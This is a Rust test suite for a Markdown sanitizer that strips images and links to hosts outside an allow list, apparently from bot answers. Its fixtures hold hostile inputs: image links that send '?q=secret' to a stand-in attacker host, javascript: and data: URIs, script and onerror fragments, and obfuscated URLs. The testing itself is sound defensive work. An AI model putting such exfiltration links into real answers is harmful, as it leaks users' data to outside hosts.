//! What a hostile text makes of an answer: nothing that a client fetches, and no link to a host that is not allowed.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

use botframework_activity::MarkdownSanitizer;
use proptest::{prelude::*, test_runner::RngSeed};

fn sanitizer() -> MarkdownSanitizer {
    MarkdownSanitizer::new().allow_host("contoso.com").allow_host("*.contoso.com")
}

const GONE: &str = "‹link removed›";

#[test]
fn what_may_pass_passes() {
    for text in [
        "plain text, 3 < 4 & 5 > 2",
        "# Heading\n\n* one\n* **two**\n\n> quoted\n\n1. first\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n",
        "[docs](https://contoso.com/a?b=c&d=e#f)",
        "[docs](https://help.contoso.com)",
        "<https://contoso.com/a>",
        "see https://contoso.com/a.",
        "(https://contoso.com/a)",
        "www.contoso.com/x",
        "`Vec<String>` and `a[0](b)`",
        "```rust\nlet a = \"https://evil.example/\"; // ![x](https://evil.example)\n```\nend",
        "~~~\n<img src=x>\n~~~\n",
        "a [1] and [2][3] and [x] (y)",
        "contoso.com and evil.example are names",
        "tom@evil.example",
        "AT&amp;T &lt; &nbsp;",
        "wow! [a](https://contoso.com)",
        "time 10:30, ratio 1:2",
        "👩\u{200d}💻 emoji",
        "",
    ] {
        assert_eq!(sanitizer().sanitize(text), text);
    }
}

#[test]
fn hostile_texts() {
    for (text, expected) in [
        ("![x](https://evil.example/?q=secret)", "x"),
        ("![](https://evil.example/?q=secret)", ""),
        ("!![x](https://evil.example/)", "x"),
        ("![x](https://contoso.com/a.png)", "[x](https://contoso.com/a.png)"),
        ("[click](https://evil.example/?q=secret)", "click"),
        ("[click](http://contoso.com/)", "click"),
        ("[click](javascript:alert(1))", "click"),
        ("[click](JaVaScRiPt:alert(1) \"t\")", "click"),
        ("[click](data:text/html;base64,AAAA)", "click"),
        ("[click](//evil.example/)", "click"),
        ("[click](/relative)", "click"),
        ("[click](<https://evil.example/ a>)", "click"),
        ("[click](\n  https://evil.example/\n)", "click"),
        ("[click](https://contoso.com@evil.example/)", "click"),
        ("[click](https://contoso.com:8443/)", "click"),
        ("[click](https://contoso.com\\@evil.example/)", "click"),
        ("[click](https://contoso.com.evil.example/)", "click"),
        ("[click](https://evilcontoso.com/)", "click"),
        ("[click](https://.contoso.com/)", "click"),
        ("[click](https://contoso.com/\u{e4})", "click"),
        ("[click](https://contoso.com/a \"a title ) here\")", "[click](https://contoso.com/a)"),
        ("[a [b](https://evil.example/1) c](https://evil.example/2)", "a b c"),
        ("[![x](https://evil.example/i)](https://contoso.com/)", "[x](https://contoso.com/)"),
        ("[x](https://evil.example/", "[x]&#40;‹link removed›"),
        ("x](https://evil.example/)", "x]&#40;‹link removed›)"),
        ("https://evil.example/?q=secret", GONE),
        ("HTTPS://EVIL.example/a.", "‹link removed›."),
        ("(see http://evil.example/a)", "(see ‹link removed›)"),
        ("xhttps://evil.example", GONE),
        ("ftp://evil.example/a", GONE),
        ("www.evil.example/a", GONE),
        ("<https://evil.example/>", GONE),
        ("<img src=\"https://evil.example/\">", "&lt;img src=\"‹link removed›\">"),
        ("<a href=//evil.example>x</a>", "&lt;a href=//evil.example>x&lt;/a>"),
        ("<!-- x --><script>", "&lt;!-- x -->&lt;script>"),
        ("<at>Boss</at>", "&lt;at>Boss&lt;/at>"),
        ("![x][r]\n\n[r]: https://evil.example/", "[x][r]\n\n&#91;r]: ‹link removed›"),
        ("![x][r]\n\n   [r]:\n//evil.example/", "[x][r]\n\n   &#91;r]:\n//evil.example/"),
        ("> [r]: //evil.example/", "> &#91;r]: //evil.example/"),
        ("https&#58;//evil.example", "https&amp;#58;//evil.example"),
        ("https&colon;&sol;&sol;evil.example", "https&amp;colon;&amp;sol;&amp;sol;evil.example"),
        ("ht\u{200b}tps://evil.example", GONE),
        ("ht\u{ad}tps:/\u{2060}/evil.example", GONE),
        ("\u{202e}cod.exe", "cod.exe"),
        ("`a` ![x](https://evil.example/) `b`", "`a` x `b`"),
        ("\\`![x](https://evil.example/)\\`", "\\` x \\`"),
        ("`![x](https://evil.example/)`", "` x `"),
        ("<[img src=x onerror=y](u:v)>", "< img src=x onerror=y >"),
        ("[<](u:v)img src=x>", "< img src=x>"),
        ("[<](u:v)!-- x", "< !-- x"),
        ("[[<](u:v)](u:v)?x", "< ?x"),
        ("[no](u:v)!", "no!"),
        ("https[://evil.example](u:v)", "https ://evil.example"),
        ("[[x]](u:v)(javascript:y)", "[x] (javascript:y)"),
        ("[ww](u:v)w.evil.example", "ww w.evil.example"),
        ("][(]()", "] ("),
        ("| `a | ![x](https://evil.example/) ` |", "| `a | x ` |"),
        ("``` ![x](https://evil.example/)", "``` x"),
        ("```\n![x](https://evil.example/)", "```\nx"),
        ("- ```\n![x](https://evil.example/)\n  ```\n", "- ```\nx\n  ```\n"),
        ("- ```\n  code\n  ```\n![x](https://evil.example/)\n", "- ```\n  code\n  ```\nx\n"),
        ("````\n```\n![x](https://evil.example/)\n````\n", "````\n```\nx\n````\n"),
        ("```\ncode\n   ```\n![x](https://evil.example/)", "```\ncode\n   ```\nx"),
        ("```\r\ncode\r\n```\r\nhttps://evil.example", "```\ncode\n```\n‹link removed›"),
        ("~~~ a`b\nx\n~~~\nhttps://evil.example", "~~~ a`b\nx\n~~~\n‹link removed›"),
    ] {
        assert_eq!(sanitizer().sanitize(text), expected, "{text}");
    }
}

#[test]
fn settings() {
    let none = MarkdownSanitizer::new();
    assert_eq!(none.sanitize("[a](https://contoso.com)"), "a");
    for bad in ["*", "https://contoso.com", "contoso", "a b.com", "contoso.com/x", "*.*.com"] {
        assert!(!MarkdownSanitizer::new().allow_host(bad).allows("https://contoso.com/x"), "{bad}");
    }
    assert!(!sanitizer().allows("https://a.contoso.com.evil.example") && sanitizer().allows("HTTPS://A.Contoso.COM/x"));
    let own = MarkdownSanitizer::new().notice("[no](links)");
    assert_eq!(own.sanitize("http://evil.example"), "nolinks");
    let card = sanitizer().without_code();
    assert_eq!(card.sanitize("```\n![x](https://evil.example/)\n```\n"), "```\nx\n```\n");
    assert_eq!(card.sanitize("`<b>`"), "`&lt;b>`");
    assert!(!format!("{:?}", sanitizer()).is_empty());
}

/// Every address in the text, wherever it stands.
fn addresses(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let scheme = rest[..at].chars().rev().take_while(|c| c.is_ascii_alphanumeric()).count();
        let tail: String =
            rest[at..].chars().take_while(|c| !c.is_whitespace() && !"<>()[]\"`|\\‹".contains(*c)).collect();
        found.push(format!("{}{tail}", &rest[at - scheme..at]));
        rest = &rest[at + 3..];
    }
    found
}

/// 3,000 texts, always the same; as many as `PROPTEST_CASES` says, of any kind, for the long form.
#[allow(clippy::disallowed_methods)] // the long form is asked for by the environment
fn config() -> ProptestConfig {
    let long = std::env::var("PROPTEST_CASES").ok().and_then(|text| text.parse().ok());
    let rng_seed = if long.is_some() { RngSeed::Random } else { RngSeed::Fixed(1) };
    ProptestConfig { cases: long.unwrap_or(3000), rng_seed, failure_persistence: None, ..ProptestConfig::default() }
}

proptest! {
    #![proptest_config(config())]

    /// Pieces of Markdown in any order, without fences: no picture, no address that is not allowed, no way to make one.
    #[test]
    fn nothing_gets_out(pieces in prop::collection::vec(prop::sample::select(vec![
        "[", "]", "(", ")", "!", "<", ">", "`", "``", "\\", "\n", "\n\n", " ", "a", "x y", "\"", "'", "|", ":", "//", "&",
        "#58;", "https://evil.example/q", "https://contoso.com/a", "http:", "www.evil.example", "javascript:x", "img src=",
        "](", "![", "]:", "](u:v)", "](u:v)", "img", "htt", "ps", "ww", "w.evil.example", "> ", "- ", "1. ", "\u{200b}", "*", "_", "$", "ä", "😀", "data:,x", "://",
    ]), 0..24)) {
        let text = pieces.concat();
        let safe = sanitizer().sanitize(&text);
        prop_assert!(!safe.contains("!["), "{text:?} became {safe:?}");
        let shown = safe.replace("&lt;", "<");
        for url in addresses(&shown) {
            let bare = url.trim_end_matches(|c: char| ".,;:!?'*_~$&".contains(c));
            prop_assert!(url.starts_with("://") || sanitizer().allows(bare), "{text:?} became {safe:?} with {url}");
        }
        for (at, _) in safe.match_indices('<') {
            let tag = safe[at + 1..].starts_with(|c: char| c.is_ascii_alphabetic() || "/!?".contains(c));
            let harmless = safe[at..].starts_with("<https://contoso.com/a") || safe.contains('`');
            prop_assert!(!tag || harmless, "{text:?} became {safe:?}");
        }
        for (at, _) in safe.match_indices("](") {
            let target = safe[at + 2..].split([')', '`']).next().unwrap();
            let harmless = !target.contains([':', '&']) && safe.contains('`');
            prop_assert!(harmless || target.starts_with("https://contoso.com/a"), "{text:?} became {safe:?}");
        }
        let mut links = addresses(&shown);
        links.sort_by_key(|url| std::cmp::Reverse(url.len()));
        let rest = links.iter().fold(shown.clone(), |rest, url| rest.replace(url.as_str(), ""));
        prop_assert!(!rest.to_lowercase().contains("www.evil"), "{text:?} became {safe:?}");
    }

    #[test]
    fn plain_words_stay(text in "[a-zA-Z0-9 ,.;?\n]{0,80}") {
        prop_assume!(!text.to_lowercase().contains("www."));
        prop_assert_eq!(sanitizer().sanitize(&text), text);
    }

    #[test]
    fn no_text_panics(text in "\\PC{0,80}") {
        let _ = sanitizer().sanitize(&text);
    }
}

#[test]
fn long_texts_take_linear_time() {
    for piece in [
        "[",
        "![",
        "]",
        "](",
        "`",
        "<",
        "\\`",
        "https://a ",
        "[a](",
        "[a]: ",
        "- ```\n",
        "```\n",
        "&",
        "!",
        "<a ",
        "`a",
        "``",
        ":",
        "www.",
    ] {
        let text = piece.repeat(30_000 / piece.len());
        let started = std::time::Instant::now();
        let _ = sanitizer().sanitize(&text);
        assert!(started.elapsed().as_secs() < 20, "{piece}: {:?}", started.elapsed());
    }
}
